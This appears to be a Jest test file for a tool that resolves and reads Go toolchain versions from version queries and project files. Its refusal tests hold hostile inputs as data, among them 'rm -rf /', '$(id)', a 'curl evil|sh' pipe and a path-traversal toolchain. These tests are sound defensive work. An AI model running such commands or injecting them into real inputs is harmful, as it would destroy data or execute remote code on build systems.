import { describe, expect, test } from '@jest/globals';
import { InputError } from '@slipway/runtime';
import { readVersionFile } from '../src/version/file.ts';
import { nearestReleases } from '../src/version/nearest.ts';
import { newestMatch, parseVersionQuery } from '../src/version/query.ts';
import { resolveVersion } from '../src/version/resolution.ts';
import {
  compareGoVersions,
  folderName,
  parseGoVersion,
  releaseName,
  type GoVersion,
} from '../src/version/version.ts';

function version(text: string): GoVersion {
  const parsed = parseGoVersion(text);
  if (parsed === undefined) throw new Error(`${text} is not a version`);
  return parsed;
}

describe('a Go version', () => {
  test.each([
    ['1.24.3', '1.24.3', '1.24.3'],
    ['go1.24.3', '1.24.3', '1.24.3'],
    ['1.25rc1', '1.25rc1', '1.25.0-rc.1'],
    ['1.25.0-rc.1', '1.25rc1', '1.25.0-rc.1'],
    ['1.21.0', '1.21.0', '1.21.0'],
    ['1.20.0', '1.20', '1.20.0'],
    ['1.20', '1.20', '1.20.0'],
    ['1.9beta2', '1.9beta2', '1.9.0-beta.2'],
    ['1.25.9-1', '1.25.9-1', '1.25.9-1'],
    ['1.26rc1-1', '1.26rc1-1', '1.26.0-rc.1-1'],
  ])('%s is the release %s and the tool-cache folder %s', (text, name, folder) => {
    expect([releaseName(version(text)), folderName(version(text))]).toEqual([name, folder]);
  });

  test.each([
    '',
    '1.2.3.4',
    '1.x',
    'v1.2',
    '1.2.3; rm -rf /',
    '../1.2',
    '01.2',
    '1.2rc',
    '1.25-1',
    '١.٢',
  ])('is not %j', (text) => {
    expect(parseGoVersion(text)).toBeUndefined();
  });

  test('is ordered with prereleases before their release', () => {
    const shuffled = ['1.25.0', '1.9.2', '1.25rc2', '1.24.11', '1.25beta1', '1.25rc10', '1.24.9'];
    expect(shuffled.map(version).sort(compareGoVersions).map(releaseName)).toEqual([
      '1.9.2',
      '1.24.9',
      '1.24.11',
      '1.25beta1',
      '1.25rc2',
      '1.25rc10',
      '1.25.0',
    ]);
  });
});

const published = [
  ...['1.20', '1.20.14', '1.23.12', '1.24.0', '1.24.9', '1.24.10'],
  ...['1.25rc1', '1.25.0', '1.25.4', '1.26rc1', '1.26.0', '1.26.8', '1.27rc1'],
].map(version);

describe('a version query', () => {
  test.each([
    ['1.24', '1.24.10'],
    ['1.24.x', '1.24.10'],
    ['~1.24.0', '1.24.10'],
    ['^1.24', '1.26.8'],
    ['1', '1.26.8'],
    ['1.x', '1.26.8'],
    ['*', '1.26.8'],
    ['>=1.22 <1.25', '1.24.10'],
    ['>=1.23.0 <1.25.0 || 1.20', '1.24.10'],
    ['1.20', '1.20.14'],
    ['1.20.0', '1.20'],
    ['1.25rc1', '1.25rc1'],
    ['1.25.0-rc.1', '1.25rc1'],
    ['1.27.0-rc.1', '1.27rc1'],
    ['>=1.27rc1', '1.27rc1'],
    ['go1.24.9', '1.24.9'],
    [' 1.24.9 ', '1.24.9'],
    ['stable', '1.26.8'],
    ['oldstable', '1.25.4'],
  ])('%s finds %s', (text, expected) => {
    const found = newestMatch(parseVersionQuery(text), published);
    expect(found && releaseName(found)).toBe(expected);
  });

  test.each(['', 'tip', '1.24.3 && id', '-1.24', '$(id)', '1.24\n::error::x', 'x'.repeat(1e5)])(
    'refuses %j and lists the valid forms',
    (text) => {
      expect(() => parseVersionQuery(text)).toThrow(InputError);
      expect(() => parseVersionQuery(text)).toThrow(/expected one of: 1\.24\.3/);
    },
  );
});

describe('resolving', () => {
  const listPublished = (): Promise<readonly GoVersion[]> => Promise.resolve(published);
  const unreachable = (): Promise<never> => Promise.reject(new Error('must not be asked'));
  const installed = ['1.24.3', '1.26.1'].map(version);

  test('an exact version asks nobody', async () => {
    const { version: found } = await resolveVersion(parseVersionQuery('1.99.1'), {
      installed,
      listPublished: unreachable,
      checkLatest: true,
    });
    expect(releaseName(found)).toBe('1.99.1');
  });

  test('a range takes what is installed', async () => {
    const query = parseVersionQuery('1.24');
    const options = { installed, listPublished: unreachable, checkLatest: false };
    expect(releaseName((await resolveVersion(query, options)).version)).toBe('1.24.3');
  });

  test('a range with check-latest takes the newest published', async () => {
    const query = parseVersionQuery('1.24');
    const options = { installed, listPublished, checkLatest: true };
    expect(releaseName((await resolveVersion(query, options)).version)).toBe('1.24.10');
  });

  test('stable is never answered from what happens to be installed', async () => {
    const options = { installed, listPublished, checkLatest: false };
    const { version: found } = await resolveVersion(parseVersionQuery('stable'), options);
    expect(releaseName(found)).toBe('1.26.8');
  });

  test('a range that nothing matches names the nearest releases', async () => {
    const options = { installed, listPublished, checkLatest: false };
    await expect(resolveVersion(parseVersionQuery('^2'), options)).rejects.toThrow(
      'No published Go release matches ^2. The nearest ones are 1.27rc1, 1.26.8',
    );
  });
});

test.each([
  ['1.24.99', '1.24.10, 1.24.9, 1.24.0'],
  ['1.99', '1.27rc1, 1.26.8'],
  ['9.99.9', '1.27rc1, 1.26.8'],
  ['~1.21.0', '1.20.14, 1.20'],
])('the releases nearest to %s are %s and others', (text, names) => {
  const sentence = nearestReleases(parseVersionQuery(text), published);
  for (const name of names.split(', ')) expect(sentence).toContain(name);
});

describe('a version file', () => {
  test.each([
    ['go.mod', 'module m\n\ngo 1.24\n', '1.24'],
    ['go.mod', 'module m\r\n\r\ngo 1.24.2\r\n\r\ntoolchain go1.26.8\r\n', '1.26.8'],
    ['go.mod', 'module m\ngo 1.24 // not 1.25\n', '1.24'],
    ['go.mod', 'module m\ngo 1.26rc1\n', '1.26rc1'],
    ['go.mod', 'module m\ngo "1.24.1"\n', '1.24.1'],
    ['go.mod', 'module m\ngo 1.24\ntoolchain default\n', '1.24'],
    ['go.mod', 'module m\ngo 1.24\ntoolchain go1.24.3-acme.2\n', '1.24.3'],
    ['go.mod', 'module m\n// go 1.1\nrequire (\n\tgo 1.2\n)\ngo 1.24\n', '1.24'],
    ['go.mod', 'module m\nrequire(\ntoolchain go1.2.3\n)\ngo 1.24\n', '1.24'],
    ['sub/tools.mod', 'module m\ngo 1.24\n', '1.24'],
    ['go.work', 'go 1.25.1\n\nuse (\n\t./a\n\t./b\n)\n', '1.25.1'],
    ['.go-version', '1.24.3\n', '1.24.3'],
    ['.go-version', '\n# comment\ngo1.24.3\n', '1.24.3'],
    ['.go-version', '\uFEFF1.24\r\n', '1.24'],
    ['.tool-versions', 'nodejs 20\ngolang 1.24.3 1.23\n', '1.24.3'],
    ['.tool-versions', '#golang 1.1\ngo 1.24.3 # comment\n', '1.24.3'],
  ])('%s with %j asks for %s', (file, text, expected) => {
    expect(readVersionFile(file, text)?.query).toBe(expected);
  });

  test.each([
    ['go.mod', 'module m\n\ngo 1.24.2\n\ntoolchain go1.26.8\n', '1.24.2'],
    ['go.work', 'go 1.24.2\ntoolchain go1.26.8\n', '1.24.2'],
    ['.go-version', '1.26.8\n', '1.26.8'],
  ])('%s with %j asks for %s where GOTOOLCHAIN is local', (file, text, expected) => {
    expect(readVersionFile(file, text, { goLineOnly: true })?.query).toBe(expected);
  });

  test.each([
    ['go.mod', 'module m\n'],
    ['go.mod', ''],
    ['go.mod', 'module m\ngo\n'],
    ['.tool-versions', 'nodejs 20\n'],
    ['.go-version', ' \n\n'],
  ])('%s with %j asks for none', (file, text) => {
    expect(readVersionFile(file, text)).toBeUndefined();
  });

  test.each([
    ['go.mod', 'toolchain go1.2.3;curl evil|sh\ngo 1.24\n', 'is no Go release'],
    ['go.mod', 'toolchain ../../../bin/sh\ngo 1.24\n', 'is no Go release'],
    ['go.mod', `go ${'9'.repeat(2_000_000)}\n`, 'larger than 1 MiB'],
  ])('%s that is hostile or useless is refused: %#', (file, text, message) => {
    expect(() => readVersionFile(file, text)).toThrow(message);
  });

  test('what it asks for is checked like the input', () => {
    const found = readVersionFile('go.mod', 'go 1.24$(id)\n');
    expect(() => parseVersionQuery(found?.query ?? '')).toThrow(/is not a Go version/);
  });

  test('a file of a megabyte of blanks and brackets is read at once', () => {
    const text = `${'require ( \t'.repeat(90_000)}\ngo 1.24\n`;
    expect(readVersionFile('go.mod', text)).toBeUndefined();
  });
});
